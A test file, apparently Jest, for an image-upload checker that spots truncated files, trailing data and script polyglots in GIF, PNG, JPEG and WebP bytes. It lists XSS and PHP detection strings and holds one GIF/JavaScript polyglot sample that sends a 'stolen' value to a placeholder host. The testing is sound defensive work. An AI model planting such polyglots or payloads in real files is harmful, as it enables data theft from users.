import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { checkStructure, looksLikeText } from './polyglot-check';

/** A minimal structurally valid GIF: header, screen descriptor, one 1×1 frame, trailer. */
const GIF = Buffer.from('474946383961010001000000002c000000000100010000020144003b', 'hex');
const PNG_IEND = Buffer.from('0000000049454e44ae426082', 'hex');
const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b55', 'hex'), PNG_IEND]);

describe('checkStructure', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'polyglot-spec-'));
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  /** Checks the bytes as a spooled file and as an in-memory upload; both must agree. */
  async function check(bytes: Buffer, mime: Parameters<typeof checkStructure>[1]) {
    const path = join(dir, `f-${Math.random().toString(36).slice(2)}`);
    await writeFile(path, bytes);
    const upload = { bytes: bytes.length, sha256: '', head: bytes.subarray(0, 4096), open: () => Readable.from([bytes]), dispose: async () => {} };
    const fromFile = await checkStructure({ ...upload, buffer: null, path }, mime);
    const fromMemory = await checkStructure({ ...upload, buffer: bytes, path: null }, mime);
    expect(fromMemory).toEqual(fromFile);
    return fromFile;
  }

  it('passes a clean GIF and PNG', async () => {
    expect(await check(GIF, 'image/gif')).toEqual({ polyglot: null, truncated: false });
    expect(await check(PNG, 'image/png')).toEqual({ polyglot: null, truncated: false });
  });

  it('tolerates a GIF without its trailer but flags one cut inside a block', async () => {
    expect(await check(GIF.subarray(0, GIF.length - 1), 'image/gif')).toEqual({ polyglot: null, truncated: false });
    expect(await check(GIF.subarray(0, GIF.length - 4), 'image/gif')).toEqual({ polyglot: null, truncated: true });
    expect(await check(PNG.subarray(0, PNG.length - 6), 'image/png')).toEqual({ polyglot: null, truncated: true });
  });

  it.each([
    ['GIF', GIF, 'image/gif'],
    ['PNG', PNG, 'image/png'],
  ] as const)('flags bytes after the end of a %s', async (_name, image, mime) => {
    expect((await check(Buffer.concat([image, Buffer.from('x')]), mime)).polyglot).toBe('trailing_data');
  });

  it.each(['<script>', '<SCRIPT src=x>', '< svg onload=1>', '<!DOCTYPE html>', '<html>', '<iframe', '<?php echo 1; ?>', '%PDF-1.4', 'javascript:alert(1)', 'alert (1)', 'eval(atob("x"))', 'document.cookie', 'window.location'])(
    'flags active content %j at the start or the end',
    async (payload) => {
      const head = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, 60]), Buffer.from(payload), Buffer.alloc(5000, 0x11)]);
      expect((await check(head, 'image/jpeg')).polyglot).toBe('active_content');
      const tail = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(5000, 0x11), Buffer.from(payload)]);
      expect((await check(tail, 'image/jpeg')).polyglot).toBe('active_content');
    },
  );

  it('does not flag active content hidden in the middle of a large file (browsers sniff the edges)', async () => {
    const middle = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(5000, 0x11), Buffer.from('<script>'), Buffer.alloc(5000, 0x11)]);
    expect((await check(middle, 'image/jpeg')).polyglot).toBeNull();
  });

  it('lets JPEG carry data after EOI', async () => {
    expect((await check(Buffer.concat([Buffer.from('ffd8ffd9', 'hex'), Buffer.alloc(100, 7)]), 'image/jpeg')).polyglot).toBeNull();
  });

  /** SOI, an APP1 whose payload holds an EOI of its own (an EXIF thumbnail), a 1×1 frame, tables, SOS, scan data, EOI. */
  const JPEG = Buffer.from(
    'ffd8' +
      'ffe1000a' + 'ffd8ffd9ffd9ffd9' +
      'ffc0000b080001000101011100' +
      'ffc40014' + '00' + '01' + '00'.repeat(15) + '00' +
      'ffda0008010100003f00' +
      'd2cfff0012' +
      'ffd9',
    'hex',
  );

  it('passes a whole JPEG, and one with data after its EOI', async () => {
    expect(await check(JPEG, 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
    expect(await check(Buffer.concat([JPEG, Buffer.alloc(100_000, 7)]), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
  });

  it('flags a JPEG whose scan data is not followed by an EOI, even when a thumbnail before the scan has one', async () => {
    expect(await check(JPEG.subarray(0, JPEG.length - 2), 'image/jpeg')).toEqual({ polyglot: null, truncated: true });
    expect(await check(JPEG.subarray(0, JPEG.length - 4), 'image/jpeg')).toEqual({ polyglot: null, truncated: true });
    // Long scan data without EOI: found missing across read windows too.
    const long = Buffer.concat([JPEG.subarray(0, JPEG.length - 2), Buffer.alloc(200_000, 0x12)]);
    expect(await check(long, 'image/jpeg')).toEqual({ polyglot: null, truncated: true });
    // An EOI split across two read windows is found.
    for (const pad of [65_535, 65_536, 131_070]) {
      expect(await check(Buffer.concat([JPEG.subarray(0, JPEG.length - 2), Buffer.alloc(pad, 0x12), Buffer.from('ffd9', 'hex')]), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
    }
  });

  it('leaves JPEGs whose markers it cannot walk to the decoder', async () => {
    expect(await check(Buffer.from('ffd8ffd9', 'hex'), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
    expect(await check(Buffer.from('ffd80011223344', 'hex'), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
    expect(await check(Buffer.from('ffd8ffe1ffff0000', 'hex'), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
  });

  it('flags a WebP with bytes beyond its RIFF size', async () => {
    const riff = Buffer.alloc(20);
    riff.write('RIFF', 0, 'latin1');
    riff.writeUInt32LE(12, 4);
    riff.write('WEBP', 8, 'latin1');
    expect((await check(riff, 'image/webp')).polyglot).toBeNull();
    expect((await check(Buffer.concat([riff, Buffer.from('tail')]), 'image/webp')).polyglot).toBe('trailing_data');
  });
});

describe('looksLikeText', () => {
  it('is true for a text file with an image signature glued on', () => {
    expect(looksLikeText(Buffer.from('GIF89a/*xxxxxxxx*/=1;var payload = "stolen"; fetch("//example.test/?" + payload);'))).toBe(true);
  });
  it('is false for binary image headers and for short samples', () => {
    expect(looksLikeText(Buffer.concat([GIF, Buffer.alloc(100, 0)]))).toBe(false);
    expect(looksLikeText(Buffer.from('GIF89a short'))).toBe(false);
  });
});
